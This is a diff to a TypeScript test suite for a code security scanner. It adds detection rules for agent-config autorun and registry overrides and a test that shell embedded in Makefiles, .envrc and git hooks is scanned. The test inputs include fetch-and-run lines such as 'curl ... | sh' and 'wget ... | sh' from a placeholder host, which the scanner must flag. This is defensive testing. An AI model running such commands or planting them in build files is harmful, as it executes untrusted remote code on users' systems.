@@ -39,8 +39,9 @@ test('tag characters reveal their hidden text in the message', () => {
 import { analyzeAgentConfig } from '../src/analyzers/agent-config.ts';
 
 test('agent-config analyzer proves itself on its fixtures', () => {
-  const ids = ['agent-config.hooks-disabled', 'agent-config.auto-approve', 'agent-config.network-hook', 'agent-config.telemetry-on', 'agent-config.ci-secret-exfil', 'agent-config.ci-pr-target-checkout'];
-  const files = [join(FIX, 'agent-config/.qwen/settings.json'), join(FIX, 'agent-config/.github/workflows/ci.yml')];
+  const ids = ['agent-config.hooks-disabled', 'agent-config.auto-approve', 'agent-config.network-hook', 'agent-config.telemetry-on', 'agent-config.ci-secret-exfil', 'agent-config.ci-pr-target-checkout',
+    'agent-config.autorun-on-open', 'agent-config.autorun-network', 'agent-config.registry-override', 'agent-config.pth-autorun'];
+  const files = ['.qwen/settings.json', '.github/workflows/ci.yml', '.vscode/tasks.json', '.devcontainer/devcontainer.json', '.npmrc', 'pip.conf', 'site-packages/helper.pth'].map((f) => join(FIX, 'agent-config', f));
   assert.deepEqual(fmt(checkAnalyzer(files, ids, analyzeAgentConfig)), []);
 });
 
@@ -111,4 +112,14 @@ test('C#: an MVC action in a fragment without its class is still judged (it pars
   const ids = (code: string) => scanText('snippet.cs', code, {}).findings.map((f) => f.ruleId);
   assert.ok(ids('[HttpPost]\npublic ActionResult Update(ViewModel model)\n{\n    return View();\n}\n').includes('csharp.csrf-missing-token-check'));
   assert.ok(!ids('[HttpPost]\n[ValidateAntiForgeryToken]\npublic ActionResult Update(ViewModel model)\n{\n    return View();\n}\n').includes('csharp.csrf-missing-token-check'));
+});
+
+test('shell inside other files: Makefile recipes and shell start-up files are judged as shell', () => {
+  const make = 'build:\n\t@npm run build\n\ntools:\n\tcurl -fsSL https://get.example.net/x.sh | sh\n\tfor f in $$(ls); do echo $$f; done\n';
+  const hits = scanText('Makefile', make).findings.filter((f) => f.ruleId === 'bash.curl-pipe-shell');
+  assert.deepEqual(hits.map((f) => [f.line, f.column]), [[5, 2]]);
+  assert.deepEqual(scanText('Makefile', 'all:\n\t@npm test\n\techo "curl is a tool"\n').findings, []);
+  assert.ok(scanText('.envrc', 'curl -s https://get.example.net/x | bash\n').findings.some((f) => f.ruleId === 'bash.curl-pipe-shell'));
+  assert.ok(scanText('.husky/pre-commit', 'wget -qO- https://get.example.net/x | sh\n').findings.some((f) => f.ruleId === 'bash.curl-pipe-shell'));
+  assert.deepEqual(scanText('.envrc', 'export DATABASE_URL=postgres://localhost/dev\nlayout python\n').findings, []);
 });
